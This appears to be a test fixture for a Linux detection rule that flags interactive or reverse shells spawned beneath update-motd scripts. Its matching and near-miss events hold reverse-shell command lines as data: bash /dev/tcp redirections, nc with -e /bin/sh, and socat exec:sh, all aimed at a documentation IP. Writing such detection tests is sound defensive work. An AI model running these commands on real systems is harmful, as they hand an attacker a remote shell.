# SPDX-License-Identifier: GPL-2.0-or-later
# Base: bash -i below a bash that a script started with nohup and setsid.
rule motd-descendant-shell
base {"event.category": "process", "event.type": "start", "event.action": "exec", "host.os.type": "linux", "process.executable": "/usr/bin/bash", "process.args": ["bash", "-i"], "process.parent.executable": "/usr/bin/bash", "tocsin.process.ancestors.executable": ["/usr/bin/bash", "/etc/update-motd.d/99-x", "/usr/bin/run-parts"]}
+ grandchild
+ login-shell {"process.args": ["bash", "-l"]}
+ zsh {"process.executable": "/usr/bin/zsh", "process.args": ["zsh", "-i"]}
+ far-descendant {"tocsin.process.ancestors.executable": ["/usr/bin/a", "/usr/bin/b", "/usr/bin/c", "/etc/update-motd.d/99-x"]}
+ child-dev-tcp {"process.parent.executable": "/etc/update-motd.d/99-x", "tocsin.process.ancestors.executable": ["/etc/update-motd.d/99-x"], "process.args": ["bash", "-c", "exec 3<>/dev/tcp/198.51.100.1/443"]}
- wrapper-nohup {"process.executable": "/usr/bin/nohup", "process.args": ["nohup", "bash", "-c", "exec 3<>/dev/tcp/198.51.100.1/443"]}
- wrapper-setsid {"process.executable": "/usr/bin/setsid", "process.args": ["setsid", "bash", "-c", "exec 3<>/dev/tcp/198.51.100.1/443"]}
- wrapper-env {"process.executable": "/usr/bin/env", "process.args": ["env", "bash", "-c", "exec 3<>/dev/tcp/198.51.100.1/443"]}
- wrapper-timeout {"process.executable": "/usr/bin/timeout", "process.args": ["timeout", "bash", "-c", "exec 3<>/dev/tcp/198.51.100.1/443"]}
+ wrapper-elsewhere {"process.executable": "/opt/nohup", "process.args": ["nohup", "-c", "exec 3<>/dev/tcp/198.51.100.1/443"]}
+ wrapped {"process.executable": "/usr/bin/bash", "process.parent.executable": "/etc/update-motd.d/99-x", "tocsin.process.ancestors.executable": ["/etc/update-motd.d/99-x"], "process.args": ["bash", "-c", "bash -i >& /dev/tcp/198.51.100.1/443 0>&1"]}
+ nc-e {"process.executable": "/usr/bin/nc", "process.args": ["nc", "198.51.100.1", "443", "-e", "/bin/sh"]}
+ socat {"process.executable": "/usr/bin/socat", "process.args": ["socat", "tcp:198.51.100.1:1", "exec:sh"]}
+ python {"process.executable": "/usr/bin/python3", "process.args": ["python3", "-c", "import socket"]}
+ login-li {"process.args": ["bash", "-li"]}
+ login-il {"process.args": ["bash", "-il"]}
+ login--login {"process.args": ["bash", "--login"]}
+ from-var-tmp {"process.executable": "/var/tmp/x", "process.args": ["x"]}
+ from-self {"process.executable": "/proc/self/fd/3", "process.args": ["x"]}
+ from-tmp {"process.executable": "/tmp/x", "process.args": ["/tmp/x", "-d"]}
+ from-shm {"process.executable": "/dev/shm/x", "process.args": ["x"]}
+ from-memory {"process.executable": "memfd:x", "process.name": "x", "process.args": ["x"]}
+ from-descriptor {"process.executable": "/dev/fd/3", "process.args": ["kworker"]}

# near misses
- child-is-the-other-rules-matter {"process.parent.executable": "/etc/update-motd.d/99-x", "tocsin.process.ancestors.executable": ["/etc/update-motd.d/99-x"]}
- uname {"process.executable": "/usr/bin/uname", "process.args": ["uname", "-snrvm"]}
- shell-script {"process.args": ["bash", "/usr/lib/update-notifier/x"]}
- shell-command {"process.args": ["sh", "-c", "cat /etc/os-release"]}
- curl-alone {"process.executable": "/usr/bin/curl", "process.args": ["curl", "-s", "https://motd.ubuntu.com"]}
- python-script {"process.executable": "/usr/bin/python3", "process.args": ["python3", "/usr/bin/landscape-sysinfo"]}
- not-below {"tocsin.process.ancestors.executable": ["/usr/bin/bash", "/usr/sbin/sshd"]}
- no-ancestors {"tocsin.process.ancestors.executable": null}
- fork {"event.action": "fork"}
- from-usr {"process.executable": "/usr/bin/x", "process.args": ["x"]}
- grep-i {"process.executable": "/usr/bin/grep", "process.args": ["grep", "-i", "x"]}
- tmp-argument {"process.executable": "/usr/bin/cat", "process.args": ["cat", "/tmp/x"]}
